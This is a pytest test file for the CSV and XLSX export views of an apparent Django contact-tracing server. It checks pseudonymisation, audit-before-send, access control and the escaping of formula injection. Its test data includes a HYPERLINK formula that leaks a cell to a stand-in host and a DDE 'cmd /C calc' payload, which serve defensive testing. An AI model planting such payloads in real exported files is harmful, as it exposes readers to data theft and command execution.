"""A list leaves as a file: without identity, under a purpose, told before, safe to open."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest
from django.http import StreamingHttpResponse
from django.test import Client
from django.urls import reverse
from python_calamine import CalamineWorkbook
from tests.server.cases.town import Town, enter
from tests.server.homes import told_of
from tests.server.tasks.loop import approved, client_of

from ringfence.lake import Home
from ringfence_server.access import Acting
from ringfence_server.cases.models import Case
from ringfence_server.deployment.here import now
from ringfence_server.exports import actions
from ringfence_server.exports.models import Export
from ringfence_server.glass.models import Opening
from ringfence_server.outbox import auditing
from ringfence_server.tracing.models import Contact, Run

pytestmark = pytest.mark.django_db
SAID = {"form": "csv", "purpose": "for the meeting of the morning"}
NASTY = '=HYPERLINK("http://x/"&A1)'


def taken(client: Client, url: str, **said: str) -> bytes:
    answer = client.post(url, {**SAID, **said})
    assert answer.status_code == 200, answer.content.decode()[-900:]
    assert isinstance(answer, StreamingHttpResponse)
    return b"".join(answer.streaming_content)


def as_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def as_workbook(content: bytes) -> list[list[str]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [list(row) for row in sheet.iter_rows()]
    assert {cell.data_type for row in cells for cell in row} <= {"s", "n", "inlineStr"}
    assert all(cell.value is None or isinstance(cell.value, str) for row in cells for cell in row)
    told = [[cell.value or "" for cell in row] for row in cells]
    (sheet_name,) = CalamineWorkbook.from_filelike(io.BytesIO(content)).sheet_names
    other = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name(sheet_name)
    assert [[str(cell) for cell in row] for row in other.to_python()] == told
    return told


@pytest.mark.parametrize(("form", "read"), [("csv", as_csv), ("xlsx", as_workbook)])
def test_contacts_without_identity(
    home: Home, chief: Acting, run: Run, form: str, read: Any
) -> None:
    content = taken(client_of(chief), reverse("export_contacts", args=[run.pk]), form=form)
    mark, heads, *rows, end = read(content)
    made = Export.objects.get()
    assert mark[0].startswith(f"Export {made.pk}, chief, 2")
    assert SAID["purpose"] in mark[0]
    assert end[0] == f"End of export {made.pk}: {len(rows)} rows"
    told = dict(zip(heads, rows[0], strict=True))
    contact = Contact.objects.get(run=run, rank=0)
    assert told["Person (pseudonym)"] == contact.person
    assert told["Case"] == "C1"
    assert told["Class"]
    assert len(rows) == run.contacts.count() == made.rows == 2
    for who in ("王小明", "13800138000", "翠苑小区"):
        assert who not in content.decode("utf-8", "ignore")


def test_told_to_the_audit_before_it_is_sent(home: Home, chief: Acting, run: Run) -> None:
    client = client_of(chief)
    answer = client.post(reverse("export_contacts", args=[run.pk]), SAID)
    (row,) = told_of(home, "export.contacts")  # nothing of the file was read yet
    made = Export.objects.get()
    assert row.by == "chief"
    assert dict(row.about) == {
        "case": "C1",
        "run": str(run.pk),
        "export": str(made.pk),
        "form": "csv",
        "purpose": SAID["purpose"],
        "rows": "2",
    }
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.headers["Content-Disposition"].endswith(f'export-{made.pk}.csv"')
    answer.close()


def test_not_audited_nothing_sent(home: Home, chief: Acting, run: Run) -> None:
    auditing.drain(home)
    (home.audit / "audit.sqlite").write_bytes(b"broken")
    answer = client_of(chief).post(reverse("export_contacts", args=[run.pk]), SAID)
    assert answer.status_code == 503
    assert not isinstance(answer, StreamingHttpResponse)
    assert not Export.objects.exists()


@pytest.mark.parametrize(
    "said",
    [
        {"purpose": ""},
        {"purpose": "call 13800138000"},
        {"purpose": "000101199001011012"},
        {"purpose": "=1+1"},
        {"purpose": "a\0b"},
        {"purpose": "x" * 301},
        {"form": "exe"},
        {"form": ""},
    ],
    ids=["none", "telephone", "document", "formula", "NUL", "long", "other form", "no form"],
)
def test_what_is_asked_wrongly_is_said(
    home: Home, chief: Acting, run: Run, said: dict[str, str]
) -> None:
    client = client_of(chief)
    answer = client.post(reverse("export_contacts", args=[run.pk]), {**SAID, **said})
    assert answer.status_code in {400, 403}
    assert "faults" in answer.content.decode()
    assert told_of(home, "export.contacts") == []


def test_formulas_are_texts_in_every_column(home: Home, chief: Acting, run: Run) -> None:
    stay = [NASTY, "＝1", "2022-07-05T10:00:00+00:00", "2022-07-05T11:00:00+00:00", "b", 1]
    Contact.objects.filter(run=run, rank=0).update(
        person="@SUM(1)", rules=["-2+3", "\t=1"], stays=[stay]
    )
    Case.objects.filter(number="C1").update(number="+cmd|' /C calc'!A0")
    client = client_of(chief)
    for form, read in (("csv", as_csv), ("xlsx", as_workbook)):
        content = taken(client, reverse("export_contacts", args=[run.pk]), form=form)
        table = read(content)
        for row in table:
            for cell in row:
                assert not cell.startswith(tuple("=+-@\t\r＝＋－＠")), cell
        assert "'@SUM(1)" in table[2]
        assert "'+cmd|' /C calc'!A0" in table[2]


def test_in_the_readers_language(chief: Acting, run: Run) -> None:
    content = taken(client_of(chief, "zh-hans"), reverse("export_contacts", args=[run.pk]))
    mark, heads, *_, end = as_csv(content)
    assert mark[0].startswith("导出 ")
    assert heads[0] == "病例"
    assert end[0].endswith("共 2 行")


def test_whose_it_is_not(town: Town, run: Run, home: Home) -> None:
    """Another unit's supervisor, also one who opened the case to read it; and the own workers."""
    url = reverse("export_contacts", args=[run.pk])
    neighbour = town.neighbour
    assert client_of(neighbour).get(url).status_code == 404
    for role in ("data_analyst", "investigator", "clinician", "grid_worker", "administrator"):
        other = client_of(town.staff(f"a-{role}", role, "000101"))
        assert other.get(url).status_code == other.post(url, SAID).status_code == 403
    assert told_of(home, "export.contacts") == []


def test_what_is_opened_in_an_emergency_is_not_exported(
    town: Town, run: Run, home: Home, chief: Acting
) -> None:
    by = town.neighbour
    client = client_of(by)
    Opening.objects.create(
        case=run.case,
        unit=run.case.owner,
        came_from=by.user.unit,
        first=run.case.owner,
        purpose="danger",
        reason="x",
        by=by.user,
        at=now(),
        until=now().replace(year=now().year + 1),
    )
    assert client.get(reverse("trace", args=[run.pk])).status_code == 200
    assert client.post(reverse("export_contacts", args=[run.pk]), SAID).status_code == 403
    rows = as_csv(taken(client, reverse("export_cases")))
    assert len(rows) == 3, "only the watermark, the heads and the end"


def test_cases_and_tasks_as_the_filters_of_the_pages(
    home: Home, town: Town, chief: Acting, run: Run
) -> None:
    enter(home, town, number="C-2", disease="measles", person={})
    approved(home, run, chief)
    client = client_of(chief)
    _, heads, *rows, _ = as_csv(taken(client, reverse("export_cases")))
    assert heads[0] == "Number"
    assert {row[0] for row in rows} == {"C1", "C-2"}
    _, _, *rows, _ = as_csv(taken(client, reverse("export_cases") + "?disease=measles&state=x\0"))
    assert [row[0] for row in rows] == ["C-2"]
    _, heads, *tasks, _ = as_csv(taken(client, reverse("export_tasks")))
    assert heads[1] == "Task"
    assert len(tasks) >= 2
    _, _, *fewer, _ = as_csv(taken(client, reverse("export_tasks") + "?kind=notify&state=none"))
    assert 0 < len(fewer) < len(tasks)
    assert [one.about["export"] for one in told_of(home, "export.tasks")]
    assert client.get(reverse("export_tasks") + "?unit=000102999").status_code == 404
    assert client.get(reverse("export_tasks") + "?unit=%00").status_code == 404


def test_too_many_rows(
    home: Home, chief: Acting, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(actions, "MOST_ROWS", 1)
    answer = client_of(chief).post(reverse("export_contacts", args=[run.pk]), SAID)
    assert answer.status_code == 400
    assert not Export.objects.exists()


def test_the_auditor_sees_each(town: Town, chief: Acting, auditor: Acting, run: Run) -> None:
    taken(client_of(chief), reverse("export_contacts", args=[run.pk]), purpose="<b>a meeting</b>")
    page = client_of(auditor).get(reverse("exports")).content.decode()
    assert "&lt;b&gt;a meeting" in page
    assert "C1" in page
    elsewhere = town.staff("auditor-102", "auditor", "000102")
    assert "a meeting" not in client_of(elsewhere).get(reverse("exports")).content.decode()
    assert client_of(chief).get(reverse("exports")).status_code == 403
